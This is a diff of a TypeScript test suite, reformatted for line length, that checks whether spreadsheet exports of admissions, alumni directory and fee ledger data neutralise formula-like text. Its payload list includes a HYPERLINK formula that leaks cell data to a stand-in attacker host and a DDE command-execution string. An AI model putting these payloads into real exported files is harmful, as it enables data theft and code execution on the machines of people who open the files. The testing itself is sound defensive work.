@@ -12,7 +12,14 @@ import { sheetRows } from '../../src/server/sheets/sheet-rows';
 
 const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 /** What an attacker types into a name, an agent or a fee type so that the exported sheet runs it. */
-const PAYLOADS = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.test/?"&A1,"Open")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 async function cellsOf(bytes: Uint8Array | Buffer) {
   const book = new ExcelJS.Workbook();
@@ -20,7 +27,9 @@ async function cellsOf(bytes: Uint8Array | Buffer) {
   const cells: unknown[] = [];
   // exceljs leaves OOXML's escapes of control characters (_x000D_ for a CR) as they are; Excel reads them as the character.
   const unescaped = (value: unknown) =>
-    typeof value === 'string' ? value.replace(/_x([0-9a-f]{4})_/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16))) : value;
+    typeof value === 'string'
+      ? value.replace(/_x([0-9a-f]{4})_/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
+      : value;
   book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(unescaped(cell.value)))));
   return cells;
 }
@@ -53,7 +62,13 @@ describe('exported workbooks neutralise text that starts like a formula (OWASP)'
           academicYear: '2026-27',
           dateOfAdmission: '2026-07-15',
           certificateSubmission: 'No',
-          applicationFormExcelM: { aadharNo: 'XXXX XXXX 1234', fathersName: 'Father', feeCommitment: '', studentPaidamount: '', permanentAddress: {} },
+          applicationFormExcelM: {
+            aadharNo: 'XXXX XXXX 1234',
+            fathersName: 'Father',
+            feeCommitment: '',
+            studentPaidamount: '',
+            permanentAddress: {},
+          },
         }) as unknown as AdmissionEntry,
     );
     expectNeutralised(await cellsOf(await admissionsWorkbook(entries, 'Admissions')));
@@ -74,7 +89,9 @@ describe('exported workbooks neutralise text that starts like a formula (OWASP)'
       mobile: null,
       source: 'registration',
     }));
-    expectNeutralised(await cellsOf(await directoryWorkbook(rows, [{ batch: '2020-24', working: 6, studying: 0, other: 0 }])));
+    expectNeutralised(
+      await cellsOf(await directoryWorkbook(rows, [{ batch: '2020-24', working: 6, studying: 0, other: 0 }])),
+    );
   });
 
   it('the fee ledger export, where numbers (a negative one too) stay numbers', async () => {
@@ -97,7 +114,15 @@ describe('exported workbooks neutralise text that starts like a formula (OWASP)'
       paidAt: '2026-07-15T05:00:00.000Z',
       transactionId: null,
     }));
-    const cells = await cellsOf(await ledgerWorkbook(entries, ledgerTotals(entries), dailyCollection(entries), {} as never, new Date('2026-07-16T00:00:00Z')));
+    const cells = await cellsOf(
+      await ledgerWorkbook(
+        entries,
+        ledgerTotals(entries),
+        dailyCollection(entries),
+        {} as never,
+        new Date('2026-07-16T00:00:00Z'),
+      ),
+    );
     expectNeutralised(cells);
     expect(cells).toContain(-125);
     expect(cells).not.toContain("'-125");
@@ -116,7 +141,8 @@ describe('exported workbooks neutralise text that starts like a formula (OWASP)'
     );
     expectNeutralised(await cellsOf(bytes));
     const firstCells: unknown[] = [];
-    for await (const row of sheetRows(new Uint8Array(bytes), XLSX_TYPE)) if (row.number > 1) firstCells.push(row.cells[0]);
+    for await (const row of sheetRows(new Uint8Array(bytes), XLSX_TYPE))
+      if (row.number > 1) firstCells.push(row.cells[0]);
     expect(firstCells).toEqual(PAYLOADS);
   });
 });
